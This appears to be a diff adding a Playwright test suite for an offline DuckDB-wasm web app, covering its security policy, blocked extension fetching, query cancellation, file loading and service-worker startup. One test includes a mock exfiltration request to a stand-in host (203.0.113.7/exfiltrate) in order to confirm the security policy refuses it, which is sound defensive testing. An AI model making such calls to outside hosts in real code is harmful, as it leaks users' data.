@@ -1,0 +1,103 @@
+// The built app in Chromium: boots offline-clean, the engine answers, the CSP holds, the service worker keeps it alive.
+import { engineReady, expect, runInConsole, startAppServer, test } from './fixtures';
+
+test('the built app opens, the engine reports ready and answers SELECT 42 with no request outside its origin', async ({ app }) => {
+  const statusText = await engineReady(app);
+  console.log(`engine status: ${statusText}`);
+  expect(statusText).toMatch(/DuckDB v1\.4\.3, eh/);
+  const grid = await runInConsole(app, 'SELECT 42 AS answer');
+  await expect(grid.getByRole('cell', { name: '42', exact: true })).toBeVisible();
+});
+
+test('the page carries a CSP that allows only its own origin', async ({ app, guard }) => {
+  guard.expected.push(/203\.0\.113\.7/);
+  const csp = await app.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(csp).toContain("default-src 'self'");
+  expect(csp).toContain("script-src 'self' 'wasm-unsafe-eval'");
+  expect(csp).not.toMatch(/https?:/);
+  // A request to another origin is refused by the policy itself, not merely unseen.
+  const refused = await app.evaluate(async () => {
+    try {
+      await fetch('http://203.0.113.7/exfiltrate', { mode: 'no-cors' });
+      return false;
+    } catch {
+      return true;
+    }
+  });
+  expect(refused).toBe(true);
+  const violations = await app.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations.splice(0));
+  expect(violations.join('\n')).toContain('connect-src');
+});
+
+test('extensions cannot be fetched: auto-install is off and the repository is the app itself', async ({ app, server }) => {
+  await engineReady(app);
+  const grid = await runInConsole(
+    app,
+    "SELECT current_setting('autoinstall_known_extensions') AS install, current_setting('custom_extension_repository') AS repo",
+  );
+  await expect(grid.getByRole('cell', { name: 'false' })).toBeVisible();
+  await expect(grid.getByRole('cell', { name: `${server.url}duckdb-extensions` })).toBeVisible();
+});
+
+test('a query in the console can be cancelled and the engine keeps answering', async ({ app }) => {
+  await engineReady(app);
+  await runInConsole(app, 'SELECT sum(i) FROM range(1000000000000) t(i)');
+  await expect(app.getByRole('button', { name: 'Cancel query' })).toBeEnabled();
+  await app.getByRole('button', { name: 'Cancel query' }).click();
+  await expect(app.getByRole('alert')).toHaveText('Query cancelled.');
+  const grid = await runInConsole(app, 'SELECT 7 AS seven');
+  await expect(grid.getByRole('cell', { name: '7', exact: true })).toBeVisible();
+});
+
+test('evidence added through the file input is registered and readable by SQL', async ({ app }) => {
+  await engineReady(app);
+  await app.getByLabel('Add evidence files').setInputFiles([
+    { name: 'register.csv', mimeType: 'text/csv', buffer: Buffer.from('name,owner\nsvc-a,alice\nsvc-b,bob\n') },
+  ]);
+  const row = app.getByRole('row', { name: /register\.csv/ });
+  await expect(row).toBeVisible();
+  const engineName = await row.locator('code').textContent();
+  const grid = await runInConsole(app, `SELECT count(*) AS n FROM read_csv('${engineName}')`);
+  await expect(grid.getByRole('cell', { name: '2', exact: true })).toBeVisible();
+});
+
+test('the sample workspace opens from the start page, offline, from files the app ships', async ({ app }) => {
+  await engineReady(app);
+  await app.getByRole('button', { name: 'Open sample workspace' }).click();
+  await expect(app.getByRole('row', { name: /nhi-register\.csv/ })).toBeVisible();
+  await expect(app.getByRole('row', { name: /\.json\.gz/ }).first()).toBeVisible();
+});
+
+test('after one visit the app starts with the server gone (service worker)', async ({ browser }) => {
+  const server = await startAppServer();
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const errors: string[] = [];
+  page.on('pageerror', (error) => errors.push(error.message));
+  try {
+    await page.goto(server.url);
+    await engineReady(page);
+    // Wait until the service worker controls the page, i.e. the precache (wasm included) is complete.
+    await page.evaluate(async () => {
+      await navigator.serviceWorker.ready;
+      if (!navigator.serviceWorker.controller) {
+        await new Promise<void>((resolve) => navigator.serviceWorker.addEventListener('controllerchange', () => resolve()));
+      }
+    });
+    await server.close();
+    const refused = await fetch(server.url).then(
+      () => false,
+      () => true,
+    );
+    expect(refused, 'the server is really gone').toBe(true);
+    await page.reload();
+    const status = await engineReady(page);
+    console.log(`offline restart: ${status}`);
+    const grid = await runInConsole(page, 'SELECT 42 AS answer');
+    await expect(grid.getByRole('cell', { name: '42', exact: true })).toBeVisible();
+    expect(errors).toEqual([]);
+  } finally {
+    await context.close();
+    await server.close();
+  }
+});
